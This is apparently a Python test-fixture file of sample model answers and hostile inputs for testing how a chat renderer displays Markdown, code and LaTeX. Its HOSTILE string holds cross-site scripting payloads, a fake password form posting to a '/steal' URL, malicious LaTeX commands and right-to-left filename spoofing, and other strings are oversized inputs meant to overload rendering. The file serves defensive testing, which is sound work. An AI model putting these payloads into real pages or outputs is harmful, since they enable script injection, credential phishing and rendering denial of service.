"""Answers as models write them, and answers as nobody should: for what renders and shows them."""

CODE = """\
Use a heap: it keeps the *k* largest seen so far, in `O(n log k)`.

```python
import heapq

def largest(values: list[float], k: int = 3) -> list[float]:
    \"\"\"The k largest, in falling order.\"\"\"
    heap: list[float] = []
    for value in values:  # one pass
        if len(heap) < k:
            heapq.heappush(heap, value)
        elif value > heap[0]:
            heapq.heapreplace(heap, value)
    return sorted(heap, reverse=True)
```

1. `heapq` is a **min**-heap, so the smallest of the *k* is at the front.
2. Each replacement costs `log k`.

| n | sort | heap |
|--:|-----:|-----:|
| 1,000 | 0.2 ms | 0.1 ms |
| 1,000,000 | 410 ms | 95 ms |
"""
CODE_SHORT = """\
Sort and slice:

```js
const largest = (xs, k = 3) => [...xs].sort((a, b) => b - a).slice(0, k);
```

That is `O(n log n)` and one line.
"""

MATHS = r"""
To integrate $x e^{-x^2}$, substitute $u = -x^2$,
so that $\mathrm{d}u = -2x\,\mathrm{d}x$:

$$
\int_0^\infty x e^{-x^2}\,\mathrm{d}x = -\tfrac12 \left[ e^{-x^2} \right]_0^\infty = \frac{1}{2}
$$

In matrix form \( A\mathbf{x} = \mathbf{b} \) with
\[
A = \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}, \qquad \det A = -2 .
\]

\begin{align}
f(x) &= \sum_{n=0}^{\infty} \frac{f^{(n)}(0)}{n!} x^n \\
     &= 1 + x + \mathcal{O}(x^2)
\end{align}

The book costs $5 and the answer key $10; neither is a formula.
"""
MATHS_OTHER = r"""
To integrate $x e^{-x^2}$,
note that $\frac{\mathrm{d}}{\mathrm{d}x} e^{-x^2} = -2x e^{-x^2}$:

$$
\int_0^\infty x e^{-x^2}\,\mathrm{d}x = \frac{1}{2}
$$

The book costs $5 and the answer key $12; neither is a formula.
"""

# Whatever a model might be led to write; none of it may do anything but be read.
HOSTILE = r"""<script>alert("script")</script><img src=x onerror=alert(1)><svg onload=alert(2)>

<div style="position:fixed;inset:0;background:red" onclick="alert(3)">covered</div>

[a link](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) <javascript:alert(6)>
[titled](https://example.org/ "\" onmouseover=\"alert(7)") ![pixel](https://example.org/pixel.png)

</div></article></form><form action="https://example.org/steal">
<input name=password><button>OK</button></form>
</template><template></details>

@@TRICKS@@

$\href{javascript:alert(8)}{x}$ $\htmlStyle{position:fixed}{x}$ 
$\includegraphics{https://example.org/p.png}$
$\pmb{x} \fcolorbox{red}{yellow}{y}$ $\def\a{\a\a}\a$ $\rule{99999em}{99999em}$
\(\frac{1}{\) $\notacommand{x}$

```html
<script>alert(9)</script>
</code></pre><b onclick=alert(10)>out</b>
```
""".replace(
    "@@TRICKS@@", "invoice\u202egpj.exe, &#8238;reversed&#8236;, an escape \x1b, tags \U000e0041"
)
WIDE = (
    "|"
    + "a long heading|" * 60
    + "\n|"
    + "-|" * 60
    + "\n"
    + ("|" + "cell|" * 60 + "\n") * 20
    + "\n\n"
    + "W" * 4000
    + "\n\n`"
    + "x" * 3000
    + "`\n\n```\n"
    + "y" * 3000
    + "\n```\n\n$"
    + "+".join("x" * 5 for _ in range(200))
    + "$\n\nhttps://example.org/"
    + "z" * 2000
    + "\n"
)
TABLE_BOMB = "|a" * 1600 + "|\n" + "|-" * 1600 + "|\n" + "|x\n" * 5000
NESTED = "> " * 4000 + "\n\n" + "- " * 2000 + "x\n\n" + "*" * 3000 + "a" + "*" * 3000
DEEP_FORMULA = "$" + "{" * 2400 + "x" + "}" * 2400 + "$"
STACKED_MARKS = "Z" + "\u0301\u0302\u0303\u0304" * 400 + " after"
HUGE = "\n\n".join(
    f"Paragraph {n}. The quick brown fox jumps over lazy dog {n}." for n in range(3300)
)
